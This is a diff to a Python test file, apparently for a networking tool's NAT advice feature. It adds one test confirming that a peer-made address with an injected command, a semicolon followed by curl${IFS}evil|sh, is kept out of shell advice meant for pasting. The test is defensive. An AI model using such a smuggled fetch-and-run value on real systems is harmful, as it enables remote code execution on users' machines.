@@ -201,6 +201,11 @@ def test_a_router_that_translates_is_found() -> None:
     assert network.nat_finding("", "10.0.0.5", [], "4242").passed is None
 
 
+def test_an_address_that_another_peer_made_up_is_in_no_advice() -> None:
+    """The advice is a line to paste into a shell."""
+    assert network.nat_finding("/ip4/1.2.3.4;curl${IFS}evil|sh/tcp/999", "10.0.0.5", [], "4242").passed is None
+
+
 def test_the_address_that_packets_leave_from() -> None:
     assert network.local_ip("127.0.0.1") == "127.0.0.1" and network.local_ip("") == ""
 
